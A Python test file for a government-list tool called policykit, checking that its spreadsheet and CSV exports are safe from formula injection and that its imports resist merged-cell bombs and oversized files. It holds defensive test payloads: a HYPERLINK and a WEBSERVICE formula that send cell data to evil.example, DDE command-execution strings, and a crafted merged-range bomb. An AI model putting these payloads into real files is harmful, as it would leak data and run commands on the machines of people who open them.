"""Spreadsheets and CSV: nothing policykit writes is a formula (OWASP CSV injection), nothing it reads
is evaluated, and every spreadsheet or 12345 input is bounded (merged-range bombs, 65,536-row .xls,
200,000-row hotline exports) with a located error naming the right limit."""
from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings, strategies as st

from policykit.io.cells import FORMULA_START, csv_text, from_csv_text, render_csv
from policykit.cli import main
from policykit.io.exporters import export_powers
from policykit.io.importers import import_files
from policykit.io.writing import dump_yaml

ROOT = Path(__file__).resolve().parents[1]
HOTLINE = ROOT / "tests" / "fixtures" / "hotline" / "12345-2025.csv"
DANGEROUS = "=+-@\t\r"


def starts_dangerous(text: str) -> bool:
    return bool(text) and text[0] in DANGEROUS

# what an author of a list (or of a 12345 work order) could write to attack a reader of the downloads
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "#N/A"]


def run(capsys, *args):
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def hostile_lists(root: Path) -> Path:
    """A department whose item fields begin with formula characters, and names that legitimately do."""
    items = [{"code": f"370199301XK{n:03d}00", "name": name, "category": "行政许可",
              "legal_basis": [{"level": "法律", "title": "中华人民共和国某法", "article": "第一条"}],
              "unit": "一科", "responsibilities": [PAYLOADS[n % len(PAYLOADS)]], "accountability_targets": ["-"],
              "accountability_cases": ["+不予受理的"], "power_source": "法定本级行使", "status": "在用",
              "remark": PAYLOADS[-1 - n % 3]}
             for n, name in enumerate(PAYLOADS + ["-号线附属设施许可", "=号事项", "'=引号开头", "''两个引号", "'普通引号"])]
    for rel, data in (("organizations/csj.yaml", {"id": "csj", "code": "301", "name": '=HYPERLINK("x")局',
                                                  "short_name": "测试局", "units": [{"name": "一科"}]}),
                      ("powers/csj.yaml", {"department": "csj", "items": items})):
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(dump_yaml(data), encoding="utf-8")
    return root


def xlsx_is_all_text(data: bytes) -> int:
    """Assert no cell of the workbook is a formula; return how many dangerous-looking cells it has."""
    from openpyxl import load_workbook
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[\s>/]", xml), f"formula element in {name}"
    wb = load_workbook(io.BytesIO(data))          # not data_only: a formula would read as "=…" with type f
    dangerous = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type in ("s", "n"), (cell.coordinate, cell.data_type, cell.value)
                if isinstance(cell.value, str) and starts_dangerous(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    dangerous += 1
    return dangerous


def csv_is_all_text(data: bytes) -> int:
    text = data.decode("utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text, newline="")) for f in row]
    assert fields and not any(starts_dangerous(f) for f in fields)
    # every field is quoted: a , or ; in a value can never start a new cell, whatever the separator
    assert all(line.startswith('"') for line in text.split("\r\n") if line)
    return sum(f.startswith("'") and starts_dangerous(f[1:]) for f in fields)


# ---- writing: export, the site's downloads, impact -f xlsx -------------------------------------------

def test_export_writes_formula_text_as_text(tmp_path, capsys):
    lists = hostile_lists(tmp_path / "lists")
    code, _, err = run(capsys, "export", "--lists", lists, "--out", tmp_path / "out.xlsx")
    assert code == 0, err
    assert xlsx_is_all_text((tmp_path / "out.xlsx").read_bytes()) >= len(PAYLOADS)
    code, _, err = run(capsys, "export", "--lists", lists, "--out", tmp_path / "csv", "--format", "csv")
    assert code == 0, err
    raw = (tmp_path / "csv" / "csj.csv").read_bytes()
    assert csv_is_all_text(raw) >= len(PAYLOADS)
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""点此查看"")"' in raw.decode("utf-8-sig")


def test_site_downloads_are_the_exporters_files(tmp_path):
    from policykit.site import downloads
    lists = hostile_lists(tmp_path / "lists")
    doc = yaml.safe_load((lists / "powers/csj.yaml").read_text(encoding="utf-8"))
    org = yaml.safe_load((lists / "organizations/csj.yaml").read_text(encoding="utf-8"))
    dept, files = downloads._render(("csj", doc, org, ("xlsx", "csv")))
    assert dept == "csj" and sorted(files) == ["csj.csv", "csj.xlsx"]
    assert xlsx_is_all_text(files["csj.xlsx"]) >= len(PAYLOADS) + 1      # the title row names the department
    assert csv_is_all_text(files["csj.csv"]) >= len(PAYLOADS)
    assert not hasattr(downloads, "_fallback_csv") and not hasattr(downloads, "_fallback_xlsx")


def test_impact_workbook_is_text(tmp_path):
    from policykit.history.impact import write_xlsx
    cite = {"department_name": "=1+1", "list": "权责清单", "key": "@A1", "name": PAYLOADS[0], "article": "-第一条",
            "file": "lists/powers/x.yaml", "line": 3}
    write_xlsx({"law": {"title": "=cmd|' /C calc'!A0"}, "citations": [cite]}, tmp_path / "impact.xlsx")
    data = (tmp_path / "impact.xlsx").read_bytes()
    assert xlsx_is_all_text(data) == 4                 # 部门, 编码, 事项名称, 引用条款
    from openpyxl import load_workbook
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == "《=cmd|' /C calc'!A0》影响事项清单" and ws["G3"].value == 3 and ws["G3"].data_type == "n"


# ---- the marker: exact, and export → import lossless -------------------------------------------------

@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\0a中 "), max_size=6) | st.text(max_size=8))
def test_csv_marker_is_exact(text):
    field = csv_text(text)
    assert not field or field[0] not in FORMULA_START
    assert from_csv_text(field) == text
    back = next(csv.reader(io.StringIO(render_csv(None, [[text]], bom=False).decode("utf-8"), newline="")))
    assert back == [field]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_round_trip_keeps_names_that_begin_with_formula_characters(tmp_path, fmt):
    lists = hostile_lists(tmp_path / "lists")
    out = tmp_path / ("out.xlsx" if fmt == "xlsx" else "csv")
    files = export_powers(lists, out, fmt=fmt)
    fresh = tmp_path / "fresh" / "lists"
    plan = import_files(files, out_dir=fresh, department="csj")
    assert not [p for p in plan.problems if p.severity == "error"]
    before = yaml.safe_load((lists / "powers/csj.yaml").read_text(encoding="utf-8"))["items"]
    after = yaml.safe_load((fresh / "powers/csj.yaml").read_text(encoding="utf-8"))["items"]
    fields = ("name", "responsibilities", "accountability_targets", "accountability_cases", "remark")
    assert [{k: it.get(k) for k in fields} for it in after] == [{k: it.get(k) for k in fields} for it in before]
    assert {it["name"] for it in after} >= {"-号线附属设施许可", "=号事项", "'=引号开头", "''两个引号", "'普通引号",
                                             PAYLOADS[0]}
    # and into the same repository: nothing to change
    assert import_files(files, out_dir=lists, department="csj").outputs == {}


# ---- reading: formulas are never evaluated -----------------------------------------------------------

def xlsx_from_xml(path: Path, sheet_xml: str) -> Path:
    """A minimal workbook, its one worksheet given as XML (what a hostile author can hand-write)."""
    main_ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel_ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pkg_ns = "http://schemas.openxmlformats.org/package/2006/relationships"
    parts = {
        "[Content_Types].xml":
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{pkg_ns}"><Relationship Id="rId1" '
                       f'Type="{rel_ns}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{main_ns}" xmlns:r="{rel_ns}">'
                           '<sheets><sheet name="清单" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{pkg_ns}">'
                                      f'<Relationship Id="rId1" Type="{rel_ns}/worksheet" '
                                      'Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{main_ns}">{sheet_xml}'
                                    "</worksheet>",
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in parts.items():
            z.writestr(name, body)
    return path


def text_cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


HEADER_ROW = '<row r="1">' + "".join(text_cell(f"{c}1", h) for c, h in zip("ABCD", ["序号", "事项名称", "权力类型", "承办机构"])) \
    + "</row>"


def item_row(r: int, name_cell: str, category: str = "行政许可") -> str:
    return f'<row r="{r}">' + text_cell(f"A{r}", str(r - 1)) + name_cell + text_cell(f"C{r}", category) \
        + text_cell(f"D{r}", "一科") + "</row>"


def test_formulas_are_read_as_their_stored_values_and_uncalculated_ones_reported(tmp_path, capsys):
    (tmp_path / "policykit.yaml").write_bytes((Path(__file__).resolve().parents[1] / "policykit.yaml").read_bytes())
    path = xlsx_from_xml(tmp_path / "公式.xlsx", "<sheetData>" + HEADER_ROW
                         + item_row(2, '<c r="B2" t="str"><f>CONCAT("某项","许可")</f><v>某项许可</v></c>')
                         + item_row(3, '<c r="B3" t="str"><f>WEBSERVICE("http://evil.example/?"&amp;D2)</f></c>')
                         + "</sheetData>")
    code, out, err = run(capsys, "import", path, "--out", tmp_path / "lists", "--report", "json", "-q",
                         "--department", "csj")
    assert code == 1 and "Traceback" not in err
    import json
    report = json.loads(out)["files"][0]
    formula = [p for p in report["problems"] if p["rule"] == "IMPORT-FORMULA"]
    assert len(formula) == 1 and formula[0]["line"] == 3 and formula[0]["column"] == 2
    assert formula[0]["path"] == "清单!B3" and formula[0]["severity"] == "error"
    assert formula[0]["message"].startswith("单元格是公式，文件中没有保存它的计算结果，未导入")
    written = (tmp_path / "lists" / "powers" / "csj.yaml").read_text(encoding="utf-8")
    assert "某项许可" in written and "WEBSERVICE" not in written and "CONCAT" not in written


# ---- budgets: merged ranges, .xls rows -------------------------------------------------------------

def run_bounded(args: list, *, seconds: int = 60, memory: int = 2 << 30, env=None):
    """``policykit ARGS`` in a child with an address-space cap and a timeout: a regression fails the
    test instead of exhausting the machine."""
    import resource

    def cap():
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
    start = time.perf_counter()
    proc = subprocess.run([sys.executable, "-m", "policykit", *map(str, args)], capture_output=True, text=True,
                          timeout=seconds, preexec_fn=cap, env={**os.environ, **(env or {})})
    return proc.returncode, proc.stdout, proc.stderr, time.perf_counter() - start


def test_merged_cell_bomb_ends_in_seconds_naming_the_cell_limit(tmp_path):
    path = xlsx_from_xml(tmp_path / "合并.xlsx", "<sheetData>" + HEADER_ROW + item_row(2, text_cell("B2", "某项许可"))
                         + '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    assert path.stat().st_size < 2000
    code, _, err, seconds = run_bounded(["import", path, "--out", tmp_path / "lists"])
    assert code == 2 and "Traceback" not in err and seconds < 20
    assert f"{path}:清单: [IMPORT-LIMIT] 合并单元格 A1:XFD1048576 的单元格数 17,179,869,184 超过上限 2,000,000" in err
    assert "--max-cells" in err and "POLICYKIT_IMPORT_MAX_CELLS" in err
    assert not (tmp_path / "lists").exists()


def test_overlapping_merges_are_bounded_too(tmp_path, capsys):
    rows = "".join(item_row(r, text_cell(f"B{r}", f"事项{r}")) for r in range(2, 52))
    # 40 ranges, each within the sheet's 204 cells, together covering them 4,880 times over
    merges = "".join(f'<mergeCell ref="A2:D{51 - k}"/>' for k in range(40))
    path = xlsx_from_xml(tmp_path / "重叠.xlsx", f"<sheetData>{HEADER_ROW}{rows}</sheetData>"
                                                  f'<mergeCells count="40">{merges}</mergeCells>')
    code, _, err = run(capsys, "import", path, "--out", tmp_path / "lists", "--max-cells", "1000")
    assert code == 2 and f"{path}:清单: [IMPORT-LIMIT] 合并单元格覆盖的单元格数 4,880 超过上限 1,000" in err


def test_a_65536_row_xls_is_read_in_seconds(tmp_path):
    xlwt = pytest.importorskip("xlwt", reason="xlwt writes the .xls (pip install xlwt)")
    wb = xlwt.Workbook()
    ws = wb.add_sheet("清单")
    for c, h in enumerate(["序号", "事项名称", "权力类型", "承办机构"]):
        ws.write(0, c, h)
    for r in range(1, 65536, 4096):          # rows down to the last one an .xls can have
        ws.write(r, 0, str(r))
        ws.write(r, 1, f"事项{r}")
        ws.write(r, 2, "行政许可")
    ws.write(65535, 0, "末行")
    ws.write(65535, 1, "最后一项")
    ws.write(65535, 2, "行政处罚")
    path = tmp_path / "大.xls"
    wb.save(str(path))
    code, out, err, seconds = run_bounded(["import", path, "--out", tmp_path / "lists", "--dry-run", "-q",
                                           "--report", "json"], seconds=120)
    assert code == 0, err
    import json
    sheet = json.loads(out)["files"][0]["sheets"][0]
    assert sheet["rows"] == 65536 and seconds < 30      # it took minutes when every row re-measured the sheet


# ---- the 12345 importer -------------------------------------------------------------------------------

def hotline_csv(path: Path, rows: int) -> Path:
    lines = HOTLINE.read_text(encoding="utf-8-sig").splitlines()
    header = lines[0]
    body = list(csv.reader(io.StringIO("\n".join(lines[1:]) + "\n")))
    buf = io.StringIO(newline="")
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(next(csv.reader([header])))
    for i in range(rows):
        row = list(body[i % len(body)])
        row[0] = f"MH{i:010d}"
        w.writerow(row)
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def test_hotline_export_over_the_row_limit_is_refused_fast(tmp_path):
    path = hotline_csv(tmp_path / "12345-big.csv", 200_000)
    out = tmp_path / "out.yaml"
    code, stdout, err, seconds = run_bounded(["problems", "import-hotline", path, "--out", out, "--root", ROOT],
                                             seconds=120, memory=1 << 30)
    assert code == 2 and "Traceback" not in err and seconds < 20
    assert re.search(rf"{re.escape(str(path))}:\d+:1: \[HOTLINE-LIMIT\] 工单行数 100,001 超过上限 100,000，未导入任何工单", err)
    assert "--max-rows" in err and "POLICYKIT_HOTLINE_MAX_ROWS" in err and not out.exists()


def test_hotline_limits_are_configurable(tmp_path, capsys, monkeypatch):
    out = tmp_path / "out.yaml"
    code, _, err = run(capsys, "problems", "import-hotline", HOTLINE, "--out", out, "--root", ROOT, "--max-rows", "10")
    reader = csv.reader(io.StringIO(HOTLINE.read_text(encoding="utf-8-sig")))
    for _ in range(12):                      # the header and 11 rows: the line where the 11th row ends
        next(reader)
    line = reader.line_num
    assert code == 2 and f"{HOTLINE}:{line}:1: [HOTLINE-LIMIT] 工单行数 11 超过上限 10" in err and not out.exists()
    monkeypatch.setenv("POLICYKIT_HOTLINE_MAX_FILE_BYTES", "1000")
    code, _, err = run(capsys, "problems", "import-hotline", HOTLINE, "--out", out, "--root", ROOT)
    assert code == 2 and "[HOTLINE-LIMIT] 文件大小（字节）" in err and "超过上限 1,000" in err
    monkeypatch.setenv("POLICYKIT_HOTLINE_MAX_FILE_BYTES", "many")
    code, _, err = run(capsys, "problems", "import-hotline", HOTLINE, "--out", out, "--root", ROOT)
    assert code == 2 and "POLICYKIT_HOTLINE_MAX_FILE_BYTES 应为正整数" in err
    monkeypatch.delenv("POLICYKIT_HOTLINE_MAX_FILE_BYTES")
    with pytest.raises(SystemExit) as stop:
        main(["problems", "import-hotline", str(HOTLINE), "--out", str(out), "--root", str(ROOT), "--max-rows", "0"])
    assert stop.value.code == 2 and "--max-rows: 应为正整数" in capsys.readouterr().err
    code, out_text, err = run(capsys, "problems", "import-hotline", HOTLINE, "--out", out, "--root", ROOT,
                              "--max-rows", "56")
    assert code == 0 and "导入 56 件" in out_text and out.is_file()


def test_hotline_import_streams_in_bounded_memory(tmp_path):
    """Under the limit the rows are streamed: the peak is the records and their YAML, not copies of
    the file (before: bytes, text, its lines and a StringIO of it, then the whole batch's YAML nodes:
    42 times the file's size; now 12)."""
    import tracemalloc
    import policykit
    from policykit.supervision.hotline import read_hotline_csv
    repo = policykit.open_repository(ROOT)
    path = hotline_csv(tmp_path / "12345-3k.csv", 3_000)
    size = path.stat().st_size
    tracemalloc.start()
    try:
        result = read_hotline_csv(path, repo)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(result.imported) == 3_000 and result.problems == []
    assert peak < 20 * size, f"peak {peak:,} bytes for a {size:,}-byte export"


def test_hotline_cells_lose_the_protective_quote(tmp_path):
    import policykit
    from policykit.supervision.hotline import read_hotline_csv
    text = ("工单编号,受理时间,诉求内容,承办单位\n"
            "MH0001,2025-01-02 08:00:00,'=HYPERLINK(\"x\") 门口有人占道,市城市管理局\n")
    path = tmp_path / "12345-q.csv"
    path.write_text(text, encoding="utf-8")
    result = read_hotline_csv(path, policykit.open_repository(ROOT))
    assert result.records[0]["content"] == '=HYPERLINK("x") 门口有人占道'


def test_hotline_yaml_written_a_record_at_a_time_is_the_same_bytes():
    from policykit.supervision.hotline import _document
    records = [{"id": "RX-1", "content": "两行\n\n中间空一行\n", "tags": ["推诿"], "remark": "  前导空格"},
               {"id": "RX-2", "content": "x: y # 不是注释", "departments": [], "result": "'引号'"},
               {"id": "RX-3", "content": "末尾空格 \n第二行", "district": None}]
    head = {"batch": "b", "source": "12345", "imported_from": "x.csv"}
    assert _document(head, records) == dump_yaml({**head, "problems": records})
    assert _document(head, []) == dump_yaml({**head, "problems": []})


def test_indicator_workbook_with_an_uncalculated_formula_is_refused(tmp_path, capsys):
    path = xlsx_from_xml(tmp_path / "指标.xlsx", "<sheetData>" + HEADER_ROW
                         + '<row r="2"><c r="A2"><f>SUM(1,1)</f></c></row>'
                         + '<row r="3"><c r="C3" t="str"><f>"25%"</f><v>25%</v></c></row></sheetData>')
    from policykit.errors import InputError
    from policykit.supervision.evaluation import read_indicator_xls
    with pytest.raises(InputError) as exc:
        read_indicator_xls(path)
    assert exc.value.message.startswith(f"{path}:2:1: [IMPORT-FORMULA] 工作表「清单」A2 是公式，文件中没有保存它的计算结果")
